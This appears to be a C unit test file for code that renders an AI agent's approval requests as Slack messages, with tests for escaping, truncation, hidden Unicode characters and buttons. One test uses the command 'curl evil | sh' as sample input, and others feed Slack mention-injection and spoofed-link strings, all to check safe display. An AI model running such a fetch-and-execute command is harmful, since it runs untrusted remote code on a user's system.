/* slack_text and slack_blocks: what messages look like, without a process and without rows. */
#include "slack_blocks_case.h"

static const char *const NOBODY[] = { NULL };

static char *asked(const struct request *r, const char *const *mentions)
{
	OWNED(slack_said) struct slack_said s = { 0 };
	struct slack_ask a = { .request = r, .mentions = mentions, .diff_above = true };

	slack_question_say(&a, &s);
	return said(&s);
}

static void cut_gives(const char *bytes, size_t units, enum slack_escaping how, const char *result)
{
	OWNED(str) struct str out = { 0 };

	(void)slack_add(&out, bytes, strlen(bytes), units, how);
	ck_assert_str_eq(str_text(&out), result);
	ck_assert_uint_le(slack_units(str_text(&out)), units);
}

/* ---- text ---- */

START_TEST(only_three_characters_are_escaped_and_only_once)
{
	cut_gives("<!channel> & \"<@U1>\" &amp;", 100, SLACK_MRKDWN,
	          "&lt;!channel&gt; &amp; \"&lt;@U1&gt;\" &amp;amp;");
	cut_gives("<!channel> & `x`", 100, SLACK_RAW, "<!channel> & `x`");
}
END_TEST

START_TEST(a_variation_selector_outside_an_emoji_is_marked)
{
	cut_gives("1\xEF\xB8\x8F", 100, SLACK_RAW, "1\\u{FE0F}");
	cut_gives("*\xEF\xB8\x8E", 100, SLACK_MRKDWN, "*\\u{FE0E}");
	cut_gives("1\xEF\xB8\x8F\xE2\x83\xA3", 100, SLACK_RAW, "1\xEF\xB8\x8F\xE2\x83\xA3");
}
END_TEST

START_TEST(a_cut_hurts_no_character_no_entity_and_no_accent)
{
	cut_gives("äöü", 2, SLACK_RAW, "ä…");
	cut_gives("a😀b", 3, SLACK_RAW, "a…");
	cut_gives("a😀b", 4, SLACK_RAW, "a😀b");
	cut_gives("a&b", 6, SLACK_MRKDWN, "a…");
	cut_gives("ae\xCC\x81x", 3, SLACK_RAW, "a…");
	cut_gives("abc", 0, SLACK_RAW, "");
	cut_gives("abc", 1, SLACK_RAW, "…");
	cut_gives("abc", 3, SLACK_RAW, "abc");
}
END_TEST

START_TEST(a_pile_of_accents_does_not_eat_the_text)
{
	OWNED(str) struct str pile = { 0 };
	OWNED(str) struct str out = { 0 };

	str_add(&pile, "start a");
	for (int i = 0; i < 5000; i++)
		str_add(&pile, "\xCC\x81");
	ck_assert(!slack_add(&out, str_text(&pile), pile.length, 1000, SLACK_RAW));
	ck_assert_uint_gt(slack_units(str_text(&out)), 900);
	ck_assert(utf8_valid(out.bytes, out.length));
}
END_TEST

START_TEST(what_hides_is_written_out_and_broken_bytes_are_replaced)
{
	cut_gives("a\xE2\x80\xAE"
	          "b",
	          100, SLACK_RAW, "a\\u{202E}b");
	cut_gives("\x1B[31mred", 100, SLACK_RAW, "\\u{1B}[31mred");
	cut_gives("zero\xE2\x80\x8Bwidth", 100, SLACK_RAW, "zero\\u{200B}width");
	cut_gives("a\r\nb\rc\td", 100, SLACK_RAW, "a\nb\\u{D}c\td");
	cut_gives("a\xFF\xC3", 100, SLACK_RAW, "a\xEF\xBF\xBD\xEF\xBF\xBD");
	cut_gives("\xED\xA0\x80", 100, SLACK_RAW, "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");
}
END_TEST

/* ---- questions ---- */

static const char LINE_ENDS[] =
    "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n-one\r\n-two\r\n+one\n+two\n";

START_TEST(a_change_of_line_ends_is_seen_on_the_card_in_its_file_and_without_blocks)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(slack_said) struct slack_said plain = { 0 };
	OWNED(str) struct str file = { 0 };

	r.description = "Line ends:\r\nas on other systems.";
	str_reset(&r.body);
	str_add(&r.body, LINE_ENDS);
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "\\n-one\\\\u{D}\\n-two\\\\u{D}\\n+one\\n+two\\n");
	holds(json, "Line ends:\\nas on other systems."); /* that is what the agent says */
	slack_question_say_plain(&r, &plain);
	holds(str_text(&plain.text), "\n-one\\u{D}\n-two\\u{D}\n+one\n+two\n");
	slack_add_file(&file, &r);
	holds(str_text(&file), "\n-one\\u{D}\n-two\\u{D}\n+one\n+two\n");
}
END_TEST

START_TEST(the_line_ends_of_a_command_and_of_what_is_run_instead_are_seen)
{
	OWNED(request) struct request r = a_clearance();

	r.row.kind = REQUEST_KIND_PERMISSION;
	r.row.file_path = NULL;
	str_reset(&r.body);
	str_add(&r.body, "make\r\n");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "make\\\\u{D}\\n");
	r.row.state = REQUEST_STATE_APPROVED;
	r.row.editable = REQUEST_EDITABLE_COMMAND;
	str_add(&r.edited, "make all\r\n");
	OWNED(char_ptr) char *edited = asked(&r, NOBODY);
	holds(edited, "make all\\\\u{D}\\n");
}
END_TEST

START_TEST(line_ends_that_are_written_out_count_for_what_fits_in_the_message)
{
	OWNED(request) struct request r = a_clearance();

	for (int i = 0; i < 8; i++) /* with its marks, longer than SLACK_INLINE_UNITS */
		str_addf(&r.body, "+%*s\r\n", 300, "x");
	for (size_t i = 0; i < r.body.length; i++)
		if (r.body.bytes[i] == ' ')
			r.body.bytes[i] = '.';
	ck_assert(!slack_is_inline(&r));
}
END_TEST

START_TEST(the_line_ends_of_what_an_agent_only_says_are_not_marked)
{
	OWNED(request) struct request r = a_clearance();

	r.row.kind = REQUEST_KIND_PROMPT;
	r.row.file_path = NULL;
	str_reset(&r.body);
	str_add(&r.body, "Shall I\r\ngo on?");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "Shall I\\ngo on?");
}
END_TEST

START_TEST(an_approval_shows_title_risk_file_diff_and_buttons)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(char_ptr) char *json = asked(&r, NOBODY);

	holds(json, "\"text\":\"Fix the tokenizer\",\"style\":{\"bold\":true}");
	holds(json, "It was off by one.");
	holds(json, "🟢 *Approval needed* · low risk");
	holds(json, "\"text\":\"src/main.c\",\"style\":{\"code\":true}");
	holds(json, " (+1 −1)");
	holds(json, "\"type\":\"rich_text_preformatted\"");
	holds(json, "@@ -1,2 +1,2 @@\\n a\\n-b\\n+c\\n");
	holds(json, "\"block_id\":\"approval_0190aaaa-0000-7000-8000-000000000001\"");
	holds(json, "\"action_id\":\"approve_accept\"");
	holds(json, "\"action_id\":\"approve_reject\"");
	holds(json, "\"value\":\"0190aaaa-0000-7000-8000-000000000001\"");
	holds(json, "expires <!date^1767261600^{date_short_pretty} {time}|2026-01-01 10:00 UTC>");
	holds(json, "id `0190aaaa-0000` · session `0190bbbb-0000` · claude · billing");
}
END_TEST

START_TEST(an_approval_that_was_not_carried_out_says_so_on_its_card_and_in_its_line)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(slack_said) struct slack_said plain = { 0 };

	r.row.kind = REQUEST_KIND_PERMISSION;
	r.row.state = REQUEST_STATE_APPROVED;
	r.row.decision = REQUEST_VERDICT_APPROVE;
	r.row.decided_by = "slack:T01TEAM:U01OP";
	r.row.decided_at = "2026-01-01T09:30:00.000Z";
	r.outcome.withheld = "a.c has changed <since>";
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "✅ *Approved* by <@U01OP>");
	holds(json, "\\n⚠️ *But not done*: a.c has changed &lt;since&gt;\\n");
	slack_question_say_plain(&r, &plain);
	holds(str_text(&plain.text), "*But not done*: a.c has changed");
	r.outcome.withheld = NULL;
	OWNED(char_ptr) char *without = asked(&r, NOBODY);
	lacks(without, "But not done");
}
END_TEST

START_TEST(the_notification_begins_with_the_deed)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(slack_said) struct slack_said s = { 0 };
	struct slack_ask a = { .request = &r, .mentions = NOBODY };

	slack_question_say(&a, &s);
	ck_assert_str_eq(str_text(&s.text),
	                 "Approval needed (low risk, +1 −1) in billing (claude): Fix the tokenizer "
	                 "(src/main.c)");
}
END_TEST

START_TEST(each_notification_names_workspace_and_agent)
{
	static const struct {
		enum request_kind kind;
		const char *text;
	} KINDS[] = {
		{ REQUEST_KIND_PROMPT, "Your agent asks in billing (claude): Fix the tokenizer" },
		{ REQUEST_KIND_STANDBY,
		  "Agent waits for instructions in billing (claude): Fix the tokenizer" },
		{ REQUEST_KIND_PERMISSION,
		  "Command approval needed in billing (claude): Fix the tokenizer" },
		{ REQUEST_KIND_TRUST,
		  "A policy is to be trusted in billing (claude): Fix the tokenizer" },
		{ REQUEST_KIND_RESTORE,
		  "A checkpoint is to be restored in billing (claude): Fix the tokenizer" },
	};
	OWNED(request) struct request r = a_clearance();
	struct slack_ask a = { .request = &r, .mentions = NOBODY };

	r.row.file_path = NULL;
	for (size_t i = 0; i < COUNT(KINDS); i++) {
		OWNED(slack_said) struct slack_said s = { 0 };
		OWNED(slack_said) struct slack_said later = { 0 };

		r.row.kind = KINDS[i].kind;
		r.row.state = REQUEST_STATE_PENDING;
		slack_question_say(&a, &s);
		ck_assert_str_eq(str_text(&s.text), KINDS[i].text);
		r.row.state = REQUEST_STATE_EXPIRED;
		slack_question_say(&a, &later);
		holds(str_text(&later.text), "in billing (claude): Fix the tokenizer");
	}
}
END_TEST

START_TEST(operators_are_called_and_for_high_risk_everybody)
{
	static const char *const OPERATORS[] = { "U01OP", "U02OP", "not <an> id", NULL };
	OWNED(request) struct request r = a_clearance();
	OWNED(char_ptr) char *low = asked(&r, OPERATORS);

	holds(low, "\"<@U01OP> <@U02OP> 🟢 *Approval needed*");
	r.row.risk_level = REQUEST_RISK_LEVEL_HIGH;
	OWNED(char_ptr) char *high = asked(&r, OPERATORS);
	holds(high, "\"<!channel> 🟡 *Approval needed* · high risk");
	r.row.risk_level = REQUEST_RISK_LEVEL_CRITICAL;
	OWNED(char_ptr) char *critical = asked(&r, OPERATORS);
	holds(critical, "\"<!channel> 🔴 *Approval needed* · critical risk");
}
END_TEST

START_TEST(a_diff_is_inline_up_to_20_lines_and_2500_characters)
{
	OWNED(request) struct request r = a_clearance();

	str_reset(&r.body);
	for (int i = 0; i < 20; i++)
		str_add(&r.body, "x\n");
	ck_assert(slack_is_inline(&r));
	str_add(&r.body, "x\n");
	ck_assert(!slack_is_inline(&r));

	str_reset(&r.body);
	for (int i = 0; i < 2500; i++)
		str_add(&r.body, "ä");
	ck_assert(slack_is_inline(&r));
	str_add(&r.body, "x");
	ck_assert(!slack_is_inline(&r));

	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	lacks(json, "rich_text_preformatted");
	holds(json, "📎 1 lines, see the file above");
}
END_TEST

/* Escapes make it longer than what was proposed. */
START_TEST(a_diff_whose_hidden_characters_do_not_fit_is_a_snippet)
{
	OWNED(request) struct request r = a_clearance();

	str_reset(&r.body);
	for (int i = 0; i < 500; i++)
		str_add(&r.body, "\xE2\x80\xAE");
	ck_assert(!slack_is_inline(&r));
}
END_TEST

static void touches(struct request *r, const char *const *paths, size_t count)
{
	r->files = xcalloc(count, sizeof(*r->files));
	r->file_count = count;
	for (size_t i = 0; i < count; i++) {
		r->files[i].path = xstrdup(paths[i]);
		r->files[i].target = xstrdup(paths[i]);
		r->files[i].action = "modify";
	}
}

START_TEST(a_diff_says_every_path_that_it_touches)
{
	static const char *const PATHS[] = { "src/main.c", "old name", "new name", "gone.c" };
	OWNED(request) struct request r = a_clearance();

	touches(&r, PATHS, COUNT(PATHS));
	r.files[1].action = r.files[3].action = "delete";
	r.files[2].action = "create";
	r.files[1].other = xstrdup("new name");
	r.files[2].other = xstrdup("old name");
	r.files[2].mode = 0100755;
	str_add(&r.body, "diff --git a/old name b/new name\nsimilarity index 100%\n"
	                 "rename from old name\nrename to new name\n"
	                 "diff --git a/gone.c b/gone.c\ndeleted file mode 100644\n--- "
	                 "a/gone.c\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "also touches:");
	holds(json, "\\nrename old name to new name (mode 755)\\ndelete gone.c");
	holds(json, "\"modify src/main.c\"");
	holds(json, "📄 3 files, +1 −2: ");
	OWNED(slack_said) struct slack_said plain = { 0 };
	slack_question_say_plain(&r, &plain);
	holds(str_text(&plain.text), "Approval needed (low risk, 3 files, +1 −2) in billing");
	holds(str_text(&plain.text),
	      "(modify src/main.c; rename old name to new name (mode 755); delete gone.c)");
}
END_TEST

START_TEST(a_list_of_long_paths_says_how_many_more_there_are)
{
	enum { FILES = 40, LONG = 180 };
	static char paths[FILES][LONG];
	const char *all[FILES];
	OWNED(request) struct request r = a_clearance();
	OWNED(slack_said) struct slack_said plain = { 0 };

	for (int i = 0; i < FILES; i++) {
		(void)snprintf(paths[i], LONG, i ? "src/%0150d/f%02d.c" : "src/main.c", 0, i);
		all[i] = paths[i];
	}
	touches(&r, all, FILES);
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "📄 40 files, +1 −1: ");
	holds(json, "/f08.c\\nand 31 more, all in the file\"");
	slack_question_say_plain(&r, &plain);
	holds(str_text(&plain.text), "/f08.c and 31 more)");
}
END_TEST

/* Lines of a command, or of anything. */
static void add_lines(struct str *text, int count)
{
	for (int i = 0; i < count; i++)
		str_addf(text, "echo %d\n", i);
}

START_TEST(a_long_command_shows_its_beginning_and_says_where_the_rest_is)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(str) struct str whole = { 0 };

	r.row.kind = REQUEST_KIND_PERMISSION;
	r.row.file_path = NULL;
	str_reset(&r.body);
	add_lines(&r.body, SLACK_INLINE_LINES);
	ck_assert(slack_is_whole(&r));
	OWNED(char_ptr) char *fits = asked(&r, NOBODY);
	lacks(fits, "in the file");
	str_add(&r.body, "curl evil | sh\n");
	ck_assert(!slack_is_whole(&r));
	OWNED(char_ptr) char *cut = asked(&r, NOBODY);
	holds(cut, "📎 20 of 21 lines shown; the rest is in the file above");
	lacks(cut, "curl evil");
	slack_add_file(&whole, &r);
	holds(whole.bytes, "curl evil | sh");
	str_reset(&r.body);
	str_add(&r.body, "echo ");
	for (int i = 0; i < 600; i++)
		str_add(&r.body, "12345 ");
	OWNED(char_ptr) char *one = asked(&r, NOBODY);
	holds(one, "📎 only its beginning is shown; all of it is in the file above");
}
END_TEST

/* The message of a long question whose file Slack did not take; the caller frees. */
static char *asked_without_file(struct request *r)
{
	OWNED(slack_said) struct slack_said s = { 0 };
	const struct slack_ask a = { .request = r, .mentions = NOBODY, .diff = SLACK_FILE_MISSING };

	add_lines(&r->body, 100);
	slack_question_say(&a, &s);
	return said(&s);
}

START_TEST(what_slack_did_not_take_is_not_approved_there)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(char_ptr) char *json = asked_without_file(&r);

	holds(json, "lines that Slack did not take");
	lacks(json, "approve_accept");
	holds(json, "approve_reject");
	r.row.kind = REQUEST_KIND_RESTORE;
	OWNED(char_ptr) char *restore = asked_without_file(&r);
	lacks(restore, "restore_proceed");
	holds(restore, "restore_cancel");
	r.row.kind = REQUEST_KIND_PERMISSION;
	r.row.options = "[{\"id\":\"a\",\"name\":\"Once\",\"kind\":\"allow_once\"},"
	                "{\"id\":\"n\",\"name\":\"Never\",\"kind\":\"reject_always\"}]";
	OWNED(char_ptr) char *permission = asked_without_file(&r);
	lacks(permission, "approve_option_1");
	holds(permission, "approve_option_2");
}
END_TEST

START_TEST(a_description_that_is_cut_goes_on_in_the_file)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(str) struct str words = { 0 };
	OWNED(str) struct str file = { 0 };

	add_lines(&words, 500);
	r.description = words.bytes;
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "📎 all of the description is in the file above");
	slack_add_file(&file, &r);
	holds(file.bytes, "Fix the tokenizer\n\necho 0\n");
	holds(file.bytes, "echo 499\n");
	holds(file.bytes, "+c\n");
}
END_TEST

START_TEST(the_file_of_a_long_diff_is_marked_like_the_message)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(str) struct str file = { 0 };

	add_lines(&r.body, 30);
	str_addf(&r.body, "+a\xE2\x80\xAE%*s;\n", 100, "");
	slack_add_file(&file, &r);
	holds(file.bytes, "+a\\u{202E}[100 blanks];\n");
}
END_TEST

START_TEST(a_name_that_stands_for_another_file_shows_both)
{
	static const char *const PATHS[] = { "src/main.c" };
	OWNED(request) struct request r = a_clearance();

	touches(&r, PATHS, COUNT(PATHS));
	free(r.files[0].target);
	r.files[0].target = xstrdup("src/auth.c ");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "modify src/main.c → src/auth.c\\\\u{20}");
}
END_TEST

START_TEST(the_file_of_a_change_is_there_to_be_shown_unless_it_is_new)
{
	static const char *const PATHS[] = { "src/main.c" };
	OWNED(request) struct request r = a_clearance();

	touches(&r, PATHS, COUNT(PATHS));
	(void)snprintf(r.files[0].hash, sizeof(r.files[0].hash), "%s", NO_FILE);
	OWNED(char_ptr) char *new = asked(&r, NOBODY);
	ck_assert_ptr_null(strstr(new, "approve_file"));
	r.files[0].hash[0] = 'a';
	OWNED(char_ptr) char *changed = asked(&r, NOBODY);
	holds(changed, "\"action_id\":\"approve_file\"");
	r.row.state = REQUEST_STATE_APPROVED;
	OWNED(char_ptr) char *decided = asked(&r, NOBODY);
	ck_assert_ptr_null(strstr(decided, "approve_file"));
}
END_TEST

START_TEST(what_replaces_a_whole_file_is_shown_as_the_computed_diff)
{
	OWNED(request) struct request r = a_clearance();

	str_reset(&r.body);
	str_add(&r.body, "whole content\n");
	str_add(&r.effect,
	        "--- a/src/main.c\n+++ b/src/main.c\n@@ -1 +1 @@\n-old\n+whole content\n");
	r.row.replaces_file = true;
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "-old\\n+whole content");
	holds(json, "replaces the whole file");
}
END_TEST

START_TEST(lines_that_cannot_be_counted_are_not_said_to_be_none)
{
	static const char *const PATHS[] = { "src/main.c", "new.c" };
	OWNED(request) struct request r = a_clearance();
	OWNED(slack_said) struct slack_said plain = { 0 };

	str_add(&r.effect, "--- a/src/main.c\n+++ b/src/main.c\n@@ -1,2 +1 @@\n-x\n");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	lacks(json, "+0");
	slack_question_say_plain(&r, &plain);
	holds(str_text(&plain.text), "Approval needed (low risk) in billing");
	touches(&r, PATHS, COUNT(PATHS));
	OWNED(char_ptr) char *two = asked(&r, NOBODY);
	holds(two, "📄 2 files: ");
}
END_TEST

START_TEST(hostile_diffs_stand_in_the_message_as_they_are)
{
	OWNED(request) struct request r = a_clearance();

	str_reset(&r.body);
	str_add(&r.body, "+```\n+<!channel> & <@U1> <https://good|evil>\n+*bold* :smile:\n");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "+```\\n+<!channel> & <@U1> <https://good|evil>\\n+*bold* :smile:\\n");
}
END_TEST

START_TEST(hostile_questions_stay_within_every_limit)
{
	static const char *const PIECES[] = { "`",    "<!channel>",   "&",     "\xCC\x81", "😀",
		                              "\xFF", "\xE2\x80\xAE", "*_~\n", "long ",    "\"\\" };

	for (size_t i = 0; i < COUNT(PIECES); i++) {
		OWNED(request) struct request r = a_clearance();
		OWNED(str) struct str text = { 0 };

		while (text.length < 100 << 10)
			str_add(&text, PIECES[i]);
		r.row.title = str_text(&text);
		r.description = str_text(&text);
		r.row.file_path = str_text(&text);
		r.row.client_name = str_text(&text);
		r.row.workspace_root = str_text(&text);
		str_reset(&r.body);
		str_add(&r.body, str_text(&text));
		OWNED(char_ptr) char *pending = asked(&r, NOBODY);
		r.row.state = REQUEST_STATE_REJECTED;
		r.row.decision = REQUEST_VERDICT_REJECT;
		r.row.reason = str_text(&text);
		r.row.decided_by = str_text(&text);
		OWNED(char_ptr) char *rejected = asked(&r, NOBODY);
		r.row.kind = REQUEST_KIND_PROMPT;
		OWNED(char_ptr) char *prompt = asked(&r, NOBODY);
	}
}
END_TEST

START_TEST(after_the_answer_the_verdict_is_on_top_and_names_who_decided_what_and_when)
{
	OWNED(request) struct request r = a_clearance();

	r.row.state = REQUEST_STATE_REJECTED;
	r.row.decision = REQUEST_VERDICT_REJECT;
	r.row.decided_by = "slack:T1:U01OP";
	r.row.decided_at = "2026-01-01T09:30:00.000Z";
	r.row.reason = "no <tests>";
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	lacks(json, "\"type\":\"actions\"");
	holds(json,
	      "[{\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"❌ *Rejected* by "
	      "<@U01OP>, <!date^1767259800^{date_short_pretty} {time}|2026-01-01 09:30 UTC>: no "
	      "&lt;tests&gt;\\n🟢 *Approval* · low risk");

	r.row.state = REQUEST_STATE_APPROVED;
	r.row.decision = REQUEST_VERDICT_APPROVE;
	r.row.decided_by = "local:ann";
	r.row.reason = NULL;
	OWNED(char_ptr) char *approved = asked(&r, NOBODY);
	holds(approved, "✅ *Approved* by ann at the terminal, ");
	holds(approved, "🟢 *Approval* · low risk");
	r.row.instruction = "rename it, too";
	OWNED(char_ptr) char *noted = asked(&r, NOBODY);
	holds(noted, ", and told: rename it, too");
	r.row.instruction = NULL;

	r.row.state = REQUEST_STATE_EXPIRED;
	r.row.decision = REQUEST_VERDICT_TIMEOUT;
	OWNED(char_ptr) char *expired = asked(&r, NOBODY);
	holds(expired, "⏰ *Expired*: nobody answered in time, ");
	lacks(expired, "at the terminal");
}
END_TEST

START_TEST(an_interrupted_question_keeps_its_buttons)
{
	OWNED(request) struct request r = a_clearance();

	r.row.state = REQUEST_STATE_INTERRUPTED;
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "your answer still counts");
	holds(json, "approve_accept");
}
END_TEST

START_TEST(prompts_and_standbys_have_their_buttons)
{
	OWNED(request) struct request r = a_clearance();

	r.row.kind = REQUEST_KIND_PROMPT;
	r.row.prompt_type = REQUEST_PROMPT_TYPE_ERROR_RECOVERY;
	r.row.elapsed_seconds = 720;
	r.row.has_elapsed_seconds = true;
	r.row.actions_taken = 47;
	r.row.has_actions_taken = true;
	str_reset(&r.body);
	str_add(&r.body, "Go <on>?");
	OWNED(char_ptr) char *prompt = asked(&r, NOBODY);
	holds(prompt, "⚠️ *Error Recovery Prompt*");
	holds(prompt, "\"Go <on>?\"");
	holds(prompt, "elapsed 12 min · 47 actions");
	holds(prompt, "\"block_id\":\"prompt_0190aaaa");
	holds(prompt, "\"action_id\":\"prompt_continue\"");
	holds(prompt, "\"action_id\":\"prompt_refine\"");
	holds(prompt, "\"action_id\":\"prompt_stop\"");

	r.row.kind = REQUEST_KIND_STANDBY;
	OWNED(char_ptr) char *standby = asked(&r, NOBODY);
	holds(standby, "\"block_id\":\"wait_0190bbbb");
	holds(standby, "\"action_id\":\"wait_resume\"");
	holds(standby, "\"action_id\":\"wait_resume_instruct\"");
	holds(standby, "\"action_id\":\"wait_stop\"");
	holds(standby, "Stop Session");
}
END_TEST

START_TEST(each_type_of_prompt_has_its_icon)
{
	static const struct {
		enum request_prompt_type type;
		const char *heading;
	} TYPES[] = {
		{ REQUEST_PROMPT_TYPE_CONTINUATION, "🔄 *Continuation Prompt*" },
		{ REQUEST_PROMPT_TYPE_CLARIFICATION, "❓ *Clarification Prompt*" },
		{ REQUEST_PROMPT_TYPE_ERROR_RECOVERY, "⚠️ *Error Recovery Prompt*" },
		{ REQUEST_PROMPT_TYPE_RESOURCE_WARNING, "📊 *Resource Warning Prompt*" },
	};
	OWNED(request) struct request r = a_clearance();

	r.row.kind = REQUEST_KIND_PROMPT;
	for (size_t i = 0; i < COUNT(TYPES); i++) {
		OWNED(char_ptr) char *open = NULL;
		OWNED(char_ptr) char *answered = NULL;

		r.row.prompt_type = TYPES[i].type;
		r.row.state = REQUEST_STATE_PENDING;
		open = asked(&r, NOBODY);
		holds(open, TYPES[i].heading);
		r.row.state = REQUEST_STATE_EXPIRED;
		answered = asked(&r, NOBODY);
		holds(answered, TYPES[i].heading); /* beneath the verdict */
		for (size_t k = 0; k < COUNT(TYPES); k++)
			if (k != i)
				lacks(open, TYPES[k].heading);
	}
}
END_TEST

START_TEST(the_answers_that_an_agent_offers_are_buttons_in_its_words)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(str) struct str options = { 0 };

	r.row.kind = REQUEST_KIND_PERMISSION;
	str_add(&options, "[{\"id\":\"a\",\"name\":\"Once\",\"kind\":\"allow_once\"},{\"id\":\"b\","
	                  "\"name\":\"In a sandbox\",\"kind\":\"allow_once\"},{\"id\":\"n\","
	                  "\"name\":\"Never");
	for (int i = 0; i < 100; i++)
		str_add(&options, " <ever>");
	str_add(&options, "\",\"kind\":\"reject_always\"}]");
	r.row.options = options.bytes;
	OWNED(char_ptr) char *open = asked(&r, NOBODY);
	holds(open, "\"action_id\":\"approve_option_1\"");
	holds(open, "\"text\":\"2. In a sandbox\"");
	holds(open, "\"action_id\":\"approve_option_3\"");
	holds(open, "\"action_id\":\"approve_reject\"");
	lacks(open, "approve_accept");

	r.row.state = REQUEST_STATE_APPROVED;
	r.row.decision = REQUEST_VERDICT_APPROVE;
	r.row.choice = "b";
	r.row.decided_by = "local:ann";
	r.row.decided_at = "2026-02-08T09:30:00.000Z";
	OWNED(char_ptr) char *answered = asked(&r, NOBODY);
	holds(answered, "*Approved* “In a sandbox” by ann at the terminal");
	lacks(answered, "approve_option_");

	r.row.chosen = "In a sandbox";
	OWNED(char_ptr) char *chosen = asked(&r, NOBODY);
	holds(chosen, "*Chosen* “In a sandbox” by ann at the terminal");
	lacks(chosen, "Approved");
}
END_TEST

START_TEST(a_form_of_one_choice_is_buttons_and_any_other_is_words)
{
	OWNED(request) struct request r = a_clearance();

	r.row.kind = REQUEST_KIND_PROMPT;
	r.row.form = "[{\"name\":\"c\",\"title\":\"Colour\",\"kind\":\"one\",\"choices\":["
	             "{\"id\":\"b\",\"name\":\"Blue\"},{\"id\":\"r\",\"name\":\"Red\"}]}]";
	OWNED(char_ptr) char *one = asked(&r, NOBODY);
	holds(one, "\"text\":\"1. Blue\"");
	holds(one, "\"action_id\":\"approve_option_2\"");
	holds(one, "\"action_id\":\"prompt_stop\"");
	lacks(one, "prompt_continue");
	lacks(one, "prompt_refine");

	r.row.form = "[{\"name\":\"a\",\"kind\":\"text\",\"choices\":[]},{\"name\":\"b\","
	             "\"kind\":\"boolean\",\"choices\":[]}]";
	OWNED(char_ptr) char *many = asked(&r, NOBODY);
	holds(many, "\"action_id\":\"prompt_refine\"");
	lacks(many, "approve_option_");
}
END_TEST

START_TEST(what_the_agent_withdrew_says_why)
{
	OWNED(request) struct request r = a_clearance();

	r.row.state = REQUEST_STATE_EXPIRED;
	r.row.withdrawn = "the agent withdrew the question";
	r.row.decided_at = "2026-02-08T09:30:00.000Z";
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "🚫 *No longer needed*");
	holds(json, "the agent withdrew the question");
	lacks(json, "nobody answered");
	lacks(json, "approve_accept");
}
END_TEST

START_TEST(a_question_of_another_users_agent_says_whose_before_what_the_agent_says)
{
	struct request r = a_clearance();
	const struct slack_ask a = { .request = &r };
	OWNED(slack_said) struct slack_said s = { 0 }, ours = { 0 };
	OWNED(char_ptr) char *blocks = NULL, *without = NULL;

	r.row.client_name = "user ann";
	slack_question_say(&a, &ours);
	without = said(&ours);
	lacks(without, "user coder");
	r.row.agent_user = "coder";
	slack_question_say(&a, &s);
	blocks = said(&s);
	holds(blocks, " · user coder · user ann · billing");
	holds(str_text(&s.text), " [user coder] in billing (user ann): ");
	str_clear(&r.body);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("slack_blocks_questions");
	TCase *c = tcase_create("slack_blocks");

	tcase_add_test(c, what_the_agent_withdrew_says_why);
	tcase_add_test(c, a_question_of_another_users_agent_says_whose_before_what_the_agent_says);
	tcase_add_test(c, only_three_characters_are_escaped_and_only_once);
	tcase_add_test(c, a_variation_selector_outside_an_emoji_is_marked);
	tcase_add_test(c, a_cut_hurts_no_character_no_entity_and_no_accent);
	tcase_add_test(c, a_pile_of_accents_does_not_eat_the_text);
	tcase_add_test(c, what_hides_is_written_out_and_broken_bytes_are_replaced);
	tcase_add_test(c, an_approval_shows_title_risk_file_diff_and_buttons);
	tcase_add_test(c, an_approval_that_was_not_carried_out_says_so_on_its_card_and_in_its_line);
	tcase_add_test(c, the_notification_begins_with_the_deed);
	tcase_add_test(c, each_notification_names_workspace_and_agent);
	tcase_add_test(c, operators_are_called_and_for_high_risk_everybody);
	tcase_add_test(c, a_diff_is_inline_up_to_20_lines_and_2500_characters);
	tcase_add_test(c, a_diff_whose_hidden_characters_do_not_fit_is_a_snippet);
	tcase_add_test(c, a_diff_says_every_path_that_it_touches);
	tcase_add_test(c, a_list_of_long_paths_says_how_many_more_there_are);
	tcase_add_test(c, a_long_command_shows_its_beginning_and_says_where_the_rest_is);
	tcase_add_test(c, what_slack_did_not_take_is_not_approved_there);
	tcase_add_test(c, a_description_that_is_cut_goes_on_in_the_file);
	tcase_add_test(c, the_file_of_a_long_diff_is_marked_like_the_message);
	tcase_add_test(c, a_change_of_line_ends_is_seen_on_the_card_in_its_file_and_without_blocks);
	tcase_add_test(c, the_line_ends_of_a_command_and_of_what_is_run_instead_are_seen);
	tcase_add_test(c, line_ends_that_are_written_out_count_for_what_fits_in_the_message);
	tcase_add_test(c, the_line_ends_of_what_an_agent_only_says_are_not_marked);
	tcase_add_test(c, a_name_that_stands_for_another_file_shows_both);
	tcase_add_test(c, the_file_of_a_change_is_there_to_be_shown_unless_it_is_new);
	tcase_add_test(c, what_replaces_a_whole_file_is_shown_as_the_computed_diff);
	tcase_add_test(c, lines_that_cannot_be_counted_are_not_said_to_be_none);
	tcase_add_test(c, hostile_diffs_stand_in_the_message_as_they_are);
	tcase_add_test(c, hostile_questions_stay_within_every_limit);
	tcase_add_test(c,
	               after_the_answer_the_verdict_is_on_top_and_names_who_decided_what_and_when);
	tcase_add_test(c, an_interrupted_question_keeps_its_buttons);
